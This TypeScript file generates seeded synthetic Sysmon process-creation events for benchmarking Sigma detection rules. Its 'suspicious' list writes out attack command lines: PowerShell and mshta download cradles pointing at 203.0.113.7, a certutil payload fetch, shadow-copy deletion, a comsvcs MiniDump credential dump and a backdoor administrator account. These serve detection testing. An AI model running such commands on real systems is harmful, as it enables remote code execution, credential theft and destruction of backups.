// Which process events does the Sigma bench feed? Sysmon process creations of an office fleet from a seeded generator: the usual noise, some administration, a little that is suspicious.
import { random } from './lines.ts'

export type ProcessEvent = Readonly<Record<string, string | number>>

/** How often, image, original name, description, company, parent image, command lines (`#`: a number, `@`: hexadecimal digits, `~`: the user). */
interface Program {
  readonly weight: number
  readonly image: string
  readonly original: string
  readonly description: string
  readonly parent: string
  readonly lines: readonly string[]
  readonly system?: boolean
}

const sys = 'C:\\Windows\\System32\\'
const chromium =
  '--lang=id --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=# --launch-time-ticks=#######  --metrics-shmem-handle=####,i,@@@@@@@@@@@@@@@@,@@@@@@@@@@@@@@@@,####### --field-trial-handle=####,i,@@@@@@@@@@@@@@@@,@@@@@@@@@@@@@@@@,262144 --variations-seed-version=########-####.###### --trace-process-track-uuid=############### --mojo-platform-channel-handle=#### /prefetch:1'

/** Most of what a fleet starts, most of the time. */
const usual: readonly Program[] = [
  program(16, 'svchost.exe', 'svchost.exe', 'Host Process for Windows Services', 'services.exe', [
    `${sys}svchost.exe -k netsvcs -p -s Schedule`,
    `${sys}svchost.exe -k LocalServiceNetworkRestricted -p -s NgcCtnrSvc`,
    `${sys}svchost.exe -k wsappx -p -s ClipSVC`,
    `${sys}svchost.exe -k UnistackSvcGroup -s CDPUserSvc_@@@@@`,
  ]),
  program(6, 'backgroundTaskHost.exe', 'backgroundTaskHost.exe', 'Background Task Host', 'svchost.exe', [
    `"${sys}backgroundTaskHost.exe" -ServerName:App.AppX@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@.mca`,
  ]),
  program(6, 'RuntimeBroker.exe', 'RuntimeBroker.exe', 'Runtime Broker', 'svchost.exe', [
    `${sys}RuntimeBroker.exe -Embedding`,
  ]),
  program(5, 'dllhost.exe', 'dllhost.exe', 'COM Surrogate', 'svchost.exe', [
    `${sys}DllHost.exe /Processid:{@@@@@@@@-@@@@-@@@@-@@@@-@@@@@@@@@@@@}`,
  ]),
  program(7, 'conhost.exe', 'CONHOST.EXE', 'Console Window Host', 'cmd.exe', [
    `\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1`,
    `\\??\\C:\\Windows\\system32\\conhost.exe 0x4`,
  ]),
  program(
    4,
    'SearchProtocolHost.exe',
    'SearchProtocolHost.exe',
    'Microsoft Windows Search Protocol Host',
    'SearchIndexer.exe',
    [
      `"${sys}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe####_ Global\\UsGthrCtrlFltPipeMssGthrPipe#### 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"`,
    ],
    true,
  ),
  program(
    3,
    'wbem\\WmiPrvSE.exe',
    'Wmiprvse.exe',
    'WMI Provider Host',
    'svchost.exe',
    [`${sys}wbem\\wmiprvse.exe -secured -Embedding`],
    true,
  ),
  program(3, 'taskhostw.exe', 'taskhostw.exe', 'Host Process for Windows Tasks', 'svchost.exe', [
    'taskhostw.exe Install $(Arg0)',
    'taskhostw.exe',
  ]),
  program(2, 'smartscreen.exe', 'smartscreen.exe', 'Windows Defender SmartScreen', 'svchost.exe', [
    `${sys}smartscreen.exe -Embedding`,
  ]),
  program(
    2,
    'consent.exe',
    'consent.exe',
    'Consent UI for administrative applications',
    'svchost.exe',
    ['consent.exe #### ### 000001@@@@@@@@@@'],
    true,
  ),
  {
    weight: 14,
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    original: 'chrome.exe',
    description: 'Google Chrome',
    parent: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    lines: [
      `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --string-annotations=is-enterprise-managed=yes --extension-process --enable-dinosaur-easter-egg-alt-images --video-capture-use-gpu-memory-buffer ${chromium}`,
      `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --service-sandbox-type=none ${chromium}`,
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument https://info.kpu.example/berita/###',
    ],
  },
  {
    weight: 9,
    image: 'C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\128.0.2739.42\\msedgewebview2.exe',
    original: 'msedgewebview2.exe',
    description: 'Microsoft Edge WebView2',
    parent: 'C:\\Program Files\\WindowsApps\\MSTeams_24215.1007.3082.1590_x64__8wekyb3d8bbwe\\ms-teams.exe',
    lines: [
      `"C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\128.0.2739.42\\msedgewebview2.exe" --type=renderer --noerrdialogs --user-data-dir="C:\\Users\\~\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\EBWebView" --webview-exe-name=ms-teams.exe --webview-exe-version=24215.1007.3082.1590 --embedded-browser-webview=1 ${chromium}`,
    ],
  },
  {
    weight: 3,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    original: 'WinWord.exe',
    description: 'Microsoft Word',
    parent: 'C:\\Windows\\explorer.exe',
    lines: [
      '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\~\\Documents\\Berita Acara Pleno ###.docx" /o ""',
    ],
  },
  {
    weight: 3,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    original: 'Excel.exe',
    description: 'Microsoft Excel',
    parent: 'C:\\Windows\\explorer.exe',
    lines: [
      '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\~\\Downloads\\rekap-tps-####.xlsx"',
    ],
  },
  {
    weight: 2,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    original: 'Outlook.exe',
    description: 'Microsoft Outlook',
    parent: 'C:\\Windows\\explorer.exe',
    lines: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /restore'],
  },
  {
    weight: 2,
    image: 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe',
    original: 'msedgeupdate.dll',
    description: 'Microsoft Edge Update',
    parent: `${sys}svchost.exe`,
    system: true,
    lines: ['"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler'],
  },
  {
    weight: 2,
    image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24080.9-0\\MpCmdRun.exe',
    original: 'MpCmdRun.exe',
    description: 'Microsoft Malware Protection Command Line Utility',
    parent: `${sys}svchost.exe`,
    system: true,
    lines: [
      '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24080.9-0\\MpCmdRun.exe" SpyNetServiceDss -RestrictPrivileges -AccessKey @@@@@@@@-@@@@-@@@@-@@@@-@@@@@@@@@@@@ -Reinvoke',
    ],
  },
  {
    weight: 2,
    image: 'C:\\Program Files\\Git\\cmd\\git.exe',
    original: 'git.exe',
    description: 'Git for Windows',
    parent: 'C:\\Users\\~\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    lines: [
      'git.exe -c core.quotepath=false status -z -uall',
      'git.exe for-each-ref --format=%(refname)%00%(upstream:short)%00%(objectname) refs/heads/main',
    ],
  },
]

/** What administrators and their tools start. */
const administration: readonly Program[] = [
  program(
    4,
    'WindowsPowerShell\\v1.0\\powershell.exe',
    'PowerShell.EXE',
    'Windows PowerShell',
    'svchost.exe',
    [
      'powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File "C:\\Skrip\\cadangkan-rekap.ps1" -Tujuan \\\\kpu-fs01\\cadangan$',
      'powershell.exe -NoLogo -NonInteractive -Command "Get-Service | Where-Object Status -eq Running | Export-Csv C:\\Skrip\\layanan-####.csv"',
    ],
    true,
  ),
  program(4, 'cmd.exe', 'Cmd.Exe', 'Windows Command Processor', 'svchost.exe', [
    `${sys}cmd.exe /c "C:\\Skrip\\harian.bat"`,
    `${sys}cmd.exe /d /s /c "npm run build"`,
    `${sys}cmd.exe /c ver`,
  ]),
  program(1, 'net.exe', 'net.exe', 'Net Command', 'cmd.exe', [
    'net use Z: \\\\kpu-fs01\\bersama /persistent:no',
    'net start wuauserv',
  ]),
  program(1, 'schtasks.exe', 'schtasks.exe', 'Task Scheduler Configuration Tool', 'cmd.exe', [
    'schtasks /query /tn "Cadangan Harian" /fo LIST /v',
    'schtasks.exe /Run /TN "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"',
  ]),
  program(
    2,
    'msiexec.exe',
    'msiexec.exe',
    'Windows® installer',
    'services.exe',
    [`${sys}msiexec.exe /V`, `${sys}MsiExec.exe -Embedding @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@ E Global\\MSI0000`],
    true,
  ),
  program(1, 'reg.exe', 'reg.exe', 'Registry Console Tool', 'cmd.exe', [
    'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v ProductName',
  ]),
  program(1, 'ipconfig.exe', 'ipconfig.exe', 'IP Configuration Utility', 'cmd.exe', [
    'ipconfig /flushdns',
    'ipconfig /all',
  ]),
  program(
    1,
    'gpupdate.exe',
    'GPUpdate.exe',
    'Microsoft® Group Policy Update Utility',
    'svchost.exe',
    ['"gpupdate.exe" /target:computer'],
    true,
  ),
  program(1, 'sc.exe', 'sc.exe', 'Service Control Manager Configuration Tool', 'cmd.exe', ['sc query wuauserv']),
  program(1, 'PING.EXE', 'ping.exe', 'TCP/IP Ping Command', 'cmd.exe', ['ping -n 1 10.20.#.1', 'ping 127.0.0.1 -n 6']),
  program(2, 'rundll32.exe', 'RUNDLL32.EXE', 'Windows host process (Rundll32)', 'svchost.exe', [
    `${sys}rundll32.exe ${sys}shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`,
    'rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh',
  ]),
]

/** What rules are written for. */
const suspicious: readonly Program[] = [
  program(1, 'WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', 'Windows PowerShell', 'cmd.exe', [
    'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA',
    'powershell -exec bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
  ]),
  program(1, 'certutil.exe', 'CertUtil.exe', 'CertUtil.exe', 'cmd.exe', [
    'certutil -urlcache -split -f http://203.0.113.7/b.exe C:\\Users\\Public\\b.exe',
  ]),
  program(1, 'whoami.exe', 'whoami.exe', 'whoami - displays logged on user information', 'cmd.exe', ['whoami /all']),
  program(
    1,
    'vssadmin.exe',
    'VSSADMIN.EXE',
    'Command Line Interface for Microsoft® Volume Shadow Copy Service',
    'cmd.exe',
    ['vssadmin delete shadows /all /quiet'],
  ),
  program(1, 'rundll32.exe', 'RUNDLL32.EXE', 'Windows host process (Rundll32)', 'cmd.exe', [
    `rundll32.exe ${sys}comsvcs.dll, MiniDump ### C:\\Temp\\l.dmp full`,
  ]),
  program(1, 'net.exe', 'net.exe', 'Net Command', 'cmd.exe', [
    'net user panitia P@ss#### /add',
    'net localgroup administrators panitia /add',
  ]),
  program(1, 'mshta.exe', 'MSHTA.EXE', 'Microsoft (R) HTML Application host', 'cmd.exe', [
    'mshta http://203.0.113.7/x.hta',
  ]),
]

function program(
  weight: number,
  image: string,
  original: string,
  description: string,
  parent: string,
  lines: readonly string[],
  system = false,
): Program {
  return { weight, image: sys + image, original, description, parent: sys + parent, lines, system }
}

const users = ['budi', 'siti', 'agus', 'dewi', 'rudi', 'ani', 'joko', 'sri', 'eko', 'wati', 'hendra', 'lina']

/** `count` process creations under Sigma's field names, as Sysmon writes them: about 1.4 kB as JSON; 75 % usual, 23 % administration, 2 % suspicious. */
export function processEvents(count: number, seed = 1): ProcessEvent[] {
  const next = random(seed)
  const below = (n: number): number => Math.floor(next() * n)
  const pick = <T>(list: readonly T[]): T => list[below(list.length)] as T
  const hex = (n: number): string =>
    Array.from({ length: n }, () => below(16).toString(16))
      .join('')
      .toUpperCase()
  const bag = (programs: readonly Program[]): Program[] =>
    programs.flatMap((one) => Array<Program>(one.weight).fill(one))
  const bags = [bag(usual), bag(administration), bag(suspicious)] as const
  // A file has the same hashes wherever it runs.
  const hashes = new Map<string, string>()
  const hashesOf = (image: string): string => {
    const known = hashes.get(image) ?? `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`
    hashes.set(image, known)
    return known
  }
  const fill = (text: string, user: string): string =>
    text.replace(/[#@~]/g, (mark) => (mark === '#' ? String(below(10)) : mark === '@' ? below(16).toString(16) : user))

  return Array.from({ length: count }, (_, i) => {
    const share = next()
    const kind = pick(share < 0.02 ? bags[2] : share < 0.25 ? bags[1] : bags[0])
    const user = pick(users)
    const owner = kind.system === true ? 'NT AUTHORITY\\SYSTEM' : `KPU\\${user}`
    const image = fill(kind.image, user)
    const parent = fill(kind.parent, user)
    const guid = (): string => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`
    const at = new Date(Date.UTC(2026, 1, 10) + i * 37).toISOString().replace('T', ' ').replace('Z', '')
    return {
      RuleName: '-',
      UtcTime: at,
      ProcessGuid: guid(),
      ProcessId: 4 * below(5000),
      Image: image,
      FileVersion: image.startsWith(sys) ? '10.0.22621.1 (WinBuild.160101.0800)' : '128.0.2739.42',
      Description: kind.description,
      Product: image.startsWith(sys) ? 'Microsoft® Windows® Operating System' : kind.description,
      Company: image.includes('Google') ? 'Google LLC' : 'Microsoft Corporation',
      OriginalFileName: kind.original,
      CommandLine: fill(pick(kind.lines), user),
      CurrentDirectory: kind.system === true ? sys : `C:\\Users\\${user}\\`,
      User: owner,
      LogonGuid: guid(),
      LogonId: `0x${hex(5).toLowerCase()}`,
      TerminalSessionId: kind.system === true ? 0 : 1,
      IntegrityLevel: kind.system === true ? 'System' : 'Medium',
      Hashes: hashesOf(image),
      ParentProcessGuid: guid(),
      ParentProcessId: 4 * below(5000),
      ParentImage: parent,
      ParentCommandLine: parent.endsWith('svchost.exe') ? `${sys}svchost.exe -k netsvcs -p -s Schedule` : `"${parent}"`,
      ParentUser: owner,
    }
  })
}
